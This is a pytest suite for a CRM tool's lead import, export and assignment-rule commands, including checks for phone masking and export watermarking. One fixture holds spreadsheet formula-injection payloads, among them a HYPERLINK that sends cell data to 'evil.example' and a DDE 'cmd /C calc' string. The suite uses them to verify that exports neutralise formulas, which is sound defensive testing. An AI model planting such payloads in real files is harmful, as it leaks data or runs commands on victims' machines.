"""`genjin import`/`export`/`rules` through the real CLI: Chinese headers, preview, dry run, per-row
error file, the duplicate check on every row, idempotent re-runs; masked, watermarked exports."""

from __future__ import annotations

import csv
from datetime import UTC, datetime
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from sqlmodel import Session, col, select

from bot.cli import main
from bot.leads.rules import RulesError, parse_rule_text
from store.customers import sync_amount
from store.db import session_scope
from store.models import Approval, Customer, FollowUp, LeadAssignment, LeadTouch, OutboxMessage
from tests.factories import T0, make_org
from tests.test_leads_support import RULES

ROWS = [
    ["张伟", "13912340001", "华康医疗", "抖音", "华东", "", "zw-wx"],
    ["李娜", "13912340002", "申通物流", "xhs", "华东", "", ""],
    ["王强", "13912340003", "南方电网", "官网", "华南", "王芳", ""],
    ["赵敏", "123", "某公司", "抖音", "华东", "", ""],  # bad phone
    ["", "13912340005", "无名公司", "抖音", "华东", "", ""],  # no name
    ["张伟", "+86 139 1234 0001", "华康医疗集团", "dy", "华东", "", ""],  # same phone as row 1: a touch
    ["孙丽", "13912340009", "", "百度", "", "", ""],  # already a customer
    ["周杰", "13912340010", "", "抖音", "华东", "不存在", ""],  # unknown owner
    ["吴磊", "13912340011", "", "", "华东", "", ""],  # no channel
]


@pytest.fixture
def cli(engine, db_url, tmp_path, monkeypatch):
    rules = tmp_path / "rules.toml"
    rules.write_text(RULES, encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("GENJIN_DATABASE_URL", db_url)
    monkeypatch.setenv("GENJIN_LEADS__RULES_FILE", str(rules))
    # main() would point structlog at this test's captured stderr, closed once the test ends.
    monkeypatch.setattr("bot.cli.configure_logging", lambda *_a, **_k: None)
    org = make_org(engine)
    with session_scope(engine) as s:
        s.add(Customer(name="孙丽", phone="+8613912340009", team_id=org.rep_b.team_id, owner_id=org.rep_b.id,
                       source_channel="转介绍", created_at=T0))
    return org


def xlsx(path: Path, rows: list[list[str]], title: str | None = "2026 秋季展会线索") -> Path:
    book = Workbook()
    ws = book.active
    if title:
        ws.append([title])
    ws.append(["姓名", "电话", "公司", "来源", "区域", "负责人", "微信号"])
    for row in rows:
        ws.append([row[0], int(row[1]) if row[1].isdigit() else row[1], *row[2:]])  # Excel keeps phones as numbers
    book.save(path)
    return path


def counts(engine) -> tuple[int, int, int]:
    with Session(engine) as s:
        return (len(s.exec(select(Customer)).all()), len(s.exec(select(LeadTouch)).all()),
                len(s.exec(select(LeadAssignment)).all()))


def test_import_preview_rules_duplicates_errors_and_idempotent_rerun(cli, engine, tmp_path, capsys):
    path = xlsx(tmp_path / "leads.xlsx", ROWS)
    assert main(["import", str(path), "--as", "陈主管", "--yes", "--no-progress"]) == 0
    out = capsys.readouterr().out
    assert "姓名 → 姓名（name）" in out and "微信号 → （忽略）" in out and "共 9 行数据" in out
    assert "导入完成：共 9 行，新建 3，已有客户新增记录 2，已导入过跳过 0，错误 4" in out
    assert "分配：" in out and "王芳 2" in out and "李明 1" in out
    with Session(engine) as s:
        by_name = {c.name: c for c in s.exec(select(Customer))}
        assert by_name["张伟"].owner_id == cli.rep_a.id and by_name["李娜"].owner_id == cli.rep_b.id  # the rules
        assert by_name["张伟"].lead_due_at is not None and by_name["张伟"].source_channel == "抖音"
        wang = by_name["王强"]  # 负责人 column: her own customer, no new-lead clock, not a lead to race for
        assert wang.owner_id == cli.rep_a.id and wang.lead_due_at is None and wang.lead_received_at is None
        assert by_name["孙丽"].latest_channel == "百度" and by_name["孙丽"].source_channel == "转介绍"
        assert len([c for c in s.exec(select(Customer)) if c.name == "张伟"]) == 1
        kinds = sorted(r.kind for r in s.exec(select(LeadAssignment)))
        assert kinds == ["auto", "auto", "import"]
        imported = s.exec(select(LeadAssignment).where(col(LeadAssignment.kind) == "import")).one()
        assert imported.reason == "从 leads.xlsx 导入：表格指定负责人 王芳"
        pushes = [m.payload.get("text", "") for m in s.exec(select(OutboxMessage))]
        summary = "【导入新线索】陈主管 从 leads.xlsx 导入，按分配规则给你 1 条新线索，发送「我的客户」查看。"
        assert pushes == [summary] * 2  # one message per rep, not a card per row
    errors = list(csv.reader((tmp_path / "leads.errors.csv").read_text(encoding="utf-8-sig").splitlines()))
    assert errors[0][:4] == ["行号", "字段", "原因", "姓名"]
    assert [(e[0], e[1], e[2]) for e in errors[1:]] == [
        ("6", "电话", "电话号码格式不正确"), ("7", "姓名", "必填"), ("10", "负责人", "负责人「不存在」不存在"),
        ("11", "来源", "缺少渠道：落地页地址里没有 utm_source，也没有填写 channel")]
    assert errors[1][3:6] == ["赵敏", "123", "某公司"]
    before = counts(engine)

    assert main(["import", str(path), "--as", "陈主管", "--yes", "--no-progress"]) == 0
    assert "新建 0，已有客户新增记录 0，已导入过跳过 5，错误 4" in capsys.readouterr().out
    assert counts(engine) == before


def test_dry_run_writes_nothing(cli, engine, tmp_path, capsys):
    path = xlsx(tmp_path / "leads.xlsx", ROWS)
    before = counts(engine)
    assert main(["import", str(path), "--as", "陈主管", "--dry-run", "--no-progress"]) == 0
    out = capsys.readouterr().out
    assert "演练结果：共 9 行，新建 3，已有客户新增记录 2" in out and "没有写入任何数据" in out
    assert counts(engine) == before
    with Session(engine) as s:
        assert s.exec(select(OutboxMessage)).all() == []


def test_gbk_csv_with_column_map_and_default_channel(cli, engine, tmp_path, capsys):
    path = tmp_path / "旧表.csv"
    path.write_bytes("客户名称,手机,单位,备注\n陈晨,13700001111,\"华信\n物流\",老客户\n".encode("gb18030"))
    args = ["import", str(path), "--as", "陈主管", "--yes", "--no-progress", "--map", "客户名称=姓名",
            "--channel", "expo"]
    assert main(args) == 0
    assert "没有来源列：全部按「expo」" in capsys.readouterr().out
    with Session(engine) as s:
        c = s.exec(select(Customer).where(col(Customer.name) == "陈晨")).one()
        assert c.phone == "+8613700001111" and c.company == "华信\n物流" and c.source_channel == "展会活动"
        assert c.owner_id is None  # 展会活动 matches no rule: the pool


def test_import_refuses_without_confirmation_or_a_manager(cli, engine, tmp_path, capsys):
    path = xlsx(tmp_path / "leads.xlsx", ROWS[:2])
    before = counts(engine)
    assert main(["import", str(path), "--as", "陈主管", "--no-progress"]) == 1  # stdin is not a terminal
    assert main(["import", str(path), "--as", "王芳", "--yes", "--no-progress"]) == 2
    assert "需是在职的主管或管理员" in capsys.readouterr().err
    assert main(["import", str(tmp_path / "x.txt"), "--as", "陈主管", "--yes"]) == 2
    assert counts(engine) == before


def test_export_masks_phones_and_names_who_exported(cli, engine, tmp_path, capsys):
    with session_scope(engine) as s:
        s.add(Customer(name="外组客户", phone="+8613800000000", team_id=cli.other_team_rep.team_id,
                       owner_id=cli.other_team_rep.id, created_at=T0))
    path = tmp_path / "customers.xlsx"
    assert main(["export", str(path), "--as", "陈主管"]) == 0
    assert "已导出 1 位客户" in capsys.readouterr().out
    rows = list(load_workbook(path).active.iter_rows(values_only=True))
    assert rows[0][0].startswith("导出人：陈主管（一组） 导出时间：") and "手机号已脱敏" in rows[0][0]
    assert rows[1][:5] == ("编号", "姓名", "公司", "职位", "电话")
    # A value starting with + is a formula to a spreadsheet: text with Excel's quotePrefix flag, shown
    # as typed (test_export_neutralises_formulas).
    assert rows[2][1] == "孙丽" and rows[2][4] == "+86139****0009" and rows[2][6] == "李明"
    assert load_workbook(path).active.cell(row=3, column=5).quotePrefix
    assert main(["export", str(path), "--as", "陈主管", "--unmask"]) == 0
    rows = list(load_workbook(path).active.iter_rows(values_only=True))
    assert rows[2][4] == "+8613912340009" and "含完整手机号" in rows[0][0]
    assert main(["export", str(path), "--as", "王芳"]) == 2


def test_export_leaves_out_unconfirmed_drafts(cli, engine, tmp_path, capsys):
    """A pasted chat nobody confirmed is a draft (it may yet be 丢弃'd): not a customer to export."""
    with session_scope(engine) as s:
        s.add(Customer(name="草稿客户", phone="+8613700000000", team_id=cli.rep_b.team_id, owner_id=cli.rep_b.id,
                       draft=True, created_at=T0))
    path = tmp_path / "customers.csv"
    assert main(["export", str(path), "--as", "陈主管"]) == 0
    assert "已导出 1 位客户" in capsys.readouterr().out
    assert "草稿客户" not in path.read_text(encoding="utf-8-sig")


HOSTILE = {  # what a marketing form or an imported sheet can put in a lead's fields
    "name": '=HYPERLINK("http://evil.example/?d="&A1,"点我")',
    "company": "@SUM(1+1)",
    "title": "-2+3+cmd|' /C calc'!A0",
    "region": "\t=1+1",
    "industry": "\r+1",
}


def export_table(path: Path) -> list[list[object]]:
    if path.suffix == ".csv":
        with path.open(encoding="utf-8-sig", newline="") as fh:
            return [list(row) for row in csv.reader(fh)]
    book = load_workbook(path)
    cells = [cell for row in book.active.iter_rows() for cell in row]
    assert cells and not [c.coordinate for c in cells if c.data_type == "f"]  # not one formula cell
    # Every text that would start a formula carries Excel's quotePrefix (stays text when edited); read
    # back here with the CSV's visible quote so both formats compare alike.
    return [["'" + c.value if c.quotePrefix else c.value for c in row] for row in book.active.iter_rows()]


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_export_neutralises_formulas_and_has_amount_and_next_contact(cli, engine, tmp_path, suffix):
    with session_scope(engine) as s:
        hostile = Customer(**HOSTILE, phone="+8613912345678", email="zhang.wei@example.cn", team_id=cli.rep_a.team_id,
                           owner_id=cli.rep_a.id, next_contact_at=datetime(2026, 11, 26, 7, 0, tzinfo=UTC),
                           created_at=T0)
        s.add(hostile)
        s.flush()
        for day, amount in ((1, 100_000), (2, 430_000), (3, None)):  # the newest confirmed amount counts
            when = datetime(2026, 11, day, tzinfo=UTC)
            s.add(FollowUp(customer_id=hostile.id, rep_id=cli.rep_a.id, text="报价", amount_cny=amount,
                           confirmed=True, confirmed_at=when, created_at=when))
        s.add(FollowUp(customer_id=hostile.id, rep_id=cli.rep_a.id, text="报价", amount_cny=990_000,
                       created_at=datetime(2026, 11, 4, tzinfo=UTC)))  # a draft: not the customer's amount yet
        sync_amount(session=s, customer=hostile)  # as every confirm does
    path = tmp_path / f"customers{suffix}"
    assert main(["export", str(path), "--as", "陈主管"]) == 0
    rows = export_table(path)
    header = rows[1]
    row = next(r for r in rows[2:] if str(r[header.index("姓名")]).startswith("'=HYPERLINK"))
    got = dict(zip(header, row, strict=True))
    for field, label in (("name", "姓名"), ("company", "公司"), ("title", "职位"), ("region", "区域"),
                         ("industry", "行业")):
        quoted = "'" + HOSTILE[field]  # a spreadsheet shows it as text (xlsx reads a stored \r back as \n)
        assert got[label] in (quoted, quoted.replace("\r", "\n")), label
    assert got["电话"] == "'+86139****5678" and got["邮箱"] == "z***@example.cn"
    assert str(got["金额（元）"]) == "430000"
    assert got["下次联系"] == "2026-11-26 15:00"  # Asia/Shanghai
    sun = next(r for r in rows[2:] if r[1] == "孙丽")
    assert sun[header.index("金额（元）")] in (None, "") and sun[header.index("下次联系")] in (None, "")


def test_masked_export_masks_contact_data_in_every_column(cli, engine, tmp_path):
    """A customer filed before names were checked may be named after its phone or e-mail: masked too."""
    with session_scope(engine) as s:
        s.add(Customer(name="13712345678", company="联系 li@example.cn", email="li@example.cn", phone="+8613712345678",
                       team_id=cli.rep_a.team_id, owner_id=cli.rep_a.id, created_at=T0))
    path = tmp_path / "customers.csv"
    assert main(["export", str(path), "--as", "陈主管"]) == 0
    text = path.read_text(encoding="utf-8-sig")
    assert "13712345678" not in text and "li@example.cn" not in text
    assert "+86137****5678,联系 l***@example.cn" in text.replace("'", "")
    assert main(["export", str(path), "--as", "陈主管", "--unmask"]) == 0
    assert "13712345678" in path.read_text(encoding="utf-8-sig")


def test_rules_check_and_explain(cli, engine, tmp_path, capsys):
    assert main(["rules", "check"]) == 0
    out = capsys.readouterr().out
    assert "组「A组」（轮流）：王芳、李明" in out and "1. 抖音华东：渠道 抖音/小红书；区域 华东 → A组" in out
    assert "检查通过" in out
    bad = tmp_path / "bad.toml"
    bad.write_text('[groups."A组"]\nmembers = ["王芳", "查无此人"]\n[[rules]]\nname = "x"\nchannel = "快播"\n'
                   'groups = ["A组"]\n', encoding="utf-8")
    assert main(["rules", "check", "--file", str(bad)]) == 1
    out = capsys.readouterr().out
    assert "[错误] groups.A组：查无此人：找不到这位成员" in out and "[提醒] rules.x：渠道「快播」不在渠道表里" in out

    before = counts(engine)
    assert main(["rules", "explain", "channel=dy region=华南"]) == 0
    out = capsys.readouterr().out
    assert "规则「抖音华东」不匹配：区域 华南 不在 华东 之内" in out and "没有匹配的分配规则，进入公海" in out
    assert main(["rules", "explain", '{"landing_url": "https://a.cn/?utm_source=xhs", "region": "华东"}']) == 0
    out = capsys.readouterr().out
    assert "规则「抖音华东」匹配" in out and "选中 王芳" in out and "（演练：没有写入任何数据）" in out
    with Session(engine) as s:
        cid = s.exec(select(Customer.id)).first()
    assert main(["rules", "explain", f"#{cid}"]) == 0  # 孙丽: 转介绍, no region
    assert "转介绍线索" in capsys.readouterr().out
    assert main(["rules", "explain", "region=华东"]) == 1
    assert counts(engine) == before


@pytest.mark.parametrize("text, message", [
    ('[[rules]]\nname = "a"\ngroups = ["无"]\n', "rule 'a' uses undefined groups: 无"),
    ('[groups.g]\nmembers = ["王芳"]\nstratgy = "weighted"\n', "Extra inputs are not permitted"),
    ('[groups.g]\nmembers = ["王芳"]\nstrategy = "random"\n', "Input should be 'round_robin', 'weighted' or"),
    ('[groups.g]\nmembers = ["王芳"]\nweights = { "李明" = 2 }\n', "weights name non-members: 李明"),
    ('[groups.g]\nmembers = ["王芳"]\ncap = 0\n', "greater than or equal to 1"),
    ('[groups.g]\nmembers = ["王芳"]\n[[rules]]\nname = "a"\ngroups = ["g"]\n[[rules]]\nname = "a"\ngroups = ["g"]\n',
     "rule names must be unique: a"),
    ("[groups.g\n", "TOML 格式错误"),
])
def test_rule_file_errors_are_reported(text, message):
    with pytest.raises(RulesError) as info:
        parse_rule_text(text)
    assert any(message in p.message for p in info.value.problems), info.value.problems


APPROVAL_RULES = """
pool_team = "一组"

[groups."A组"]
members = ["王芳"]

[[rules]]
name = "华北跨区"
region = "华北"
groups = ["A组"]
approval = true
"""


@pytest.mark.parametrize("importer", ["二组主管", "陈主管", "管理员"])
def test_import_respects_approval_rules_unless_the_importer_may_approve(cli, engine, tmp_path, monkeypatch,
                                                                        capsys, importer):
    """A rule with approval = true holds an imported lead for the picked rep's supervisor, as
    /api/leads does, when another team's supervisor runs the import; the rep's own supervisor (the
    approver) or an admin importing it is the approval: assigned at once, the reason says so."""
    rules = tmp_path / "approval_rules.toml"
    rules.write_text(APPROVAL_RULES, encoding="utf-8")
    monkeypatch.setenv("GENJIN_LEADS__RULES_FILE", str(rules))
    path = xlsx(tmp_path / "north.xlsx", [["许强", "13912340021", "北方重工", "抖音", "华北", "", ""]])
    assert main(["import", str(path), "--as", importer, "--yes", "--no-progress"]) == 0
    out = capsys.readouterr().out
    with Session(engine) as s:
        lead = s.exec(select(Customer).where(col(Customer.name) == "许强")).one()
        approvals = s.exec(select(Approval)).all()
        cards = [m for m in s.exec(select(OutboxMessage)) if "card" in m.payload]
        texts = [m.payload.get("text", "") for m in s.exec(select(OutboxMessage)) if m.recipient == "rep-a"]
        reasons = [r.reason for r in s.exec(select(LeadAssignment).where(col(LeadAssignment.customer_id) == lead.id))]
    if importer == "二组主管":
        assert "待审批 1 条" in out and "分配：" not in out
        assert lead.owner_id is None and lead.lead_due_at is None  # unclaimable, on the approval's timer
        [approval] = approvals
        assert approval.proposed_member_id == cli.rep_a.id and approval.approver_id == cli.supervisor.id
        assert [m.recipient for m in cards] == ["sup"] and texts == []  # the rep hears of it on 批准
        [reason] = reasons
        assert reason.endswith("；规则要求审批，等待 陈主管 批准")
    else:
        assert "分配：王芳 1" in out and "待审批" not in out
        assert lead.owner_id == cli.rep_a.id and approvals == [] and cards == []
        assert len(texts) == 1 and texts[0].startswith("【导入新线索】")
        [reason] = reasons
        assert reason.endswith(f"（规则要求审批，导入人 {importer} 有审批权，导入即批准）")
